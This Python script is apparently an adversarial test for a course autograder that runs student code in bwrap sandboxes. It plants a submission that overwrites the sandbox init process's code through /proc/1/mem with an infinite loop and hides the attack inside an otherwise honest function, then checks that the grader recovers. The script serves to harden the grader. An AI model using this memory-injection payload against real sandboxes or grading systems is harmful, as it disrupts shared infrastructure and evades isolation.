"""a08: code written into bwrap's init through /proc/1/mem (the sandbox's user, dumpable, no Yama here): `jmp $`
at the instruction after its wait4, then an orphan exits so that init returns into it and spins at 100% CPU,
never reaping again. Done in the kernel's sandbox (from the kernel) and in the observer's (from a check's child).
Does the grader still finish mallory (own points only), tear both sandboxes down, and leave zoe untouched?"""
import sys, threading; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
A = "ps1_memory"
inject = r'''
import os, time
def _spin_init():
    fields = open("/proc/1/syscall").read().split()
    pc = int(fields[-1], 16)
    fd = os.open("/proc/1/mem", os.O_RDWR)
    try:
        os.pwrite(fd, b"\xeb\xfe", pc)
        back = os.pread(fd, 2, pc)
    finally:
        os.close(fd)
    pid = os.fork()          # an orphan for init: its death wakes init's wait4
    if pid == 0:
        if os.fork() == 0:
            time.sleep(0.2)
        os._exit(0)
    os.waitpid(pid, 0)
    time.sleep(1.0)
    st = open("/proc/1/stat").read().split()
    return f"syscall={fields[0]} pc={pc:#x} wrote={back!r} init state={st[2]} utime={st[13]}"
'''
code = sol(A, "training_memory").replace("def training_memory(model, optimizer):", "def _honest_tm(model, optimizer):") + inject + r'''
try:
    print("A08 kernel sandbox:", _spin_init())
except Exception as e:
    print("A08 kernel sandbox failed:", repr(e))

def training_memory(model, optimizer):
    import sys
    obs = sys.modules.get("probes.observer")
    if obs is not None and getattr(obs, "ACTIVE", False) and not os.path.exists("/tmp/.a08done"):
        open("/tmp/.a08done", "w").close()
        try:
            _spin_init()
        except Exception:
            pass
    return _honest_tm(model, optimizer)
'''
samples = []; stop = threading.Event()
def sampler():
    while not stop.is_set():
        n = 0; bw = 0
        for p in os.listdir("/proc"):
            if p.isdigit():
                try:
                    if os.stat(f"/proc/{p}").st_uid == 65534:
                        n += 1
                        if open(f"/proc/{p}/comm").read().startswith("bwrap"): bw += 1
                except OSError:
                    pass
        samples.append((time.time(), n, bw)); time.sleep(0.5)
d = make_course("a08", A, {"mallory": {"training_memory": code}})
t = threading.Thread(target=sampler, daemon=True); t.start()
grade(d, A)
time.sleep(3); stop.set()
scores(d, A)
o = outputs(d, "mallory", A, "training_memory"); print(o[o.find("A08"):][:600])
t0 = samples[0][0]
print("uid-65534 procs / bwrap procs over time:", [(round(a - t0, 1), n, b) for a, n, b in samples][::4])
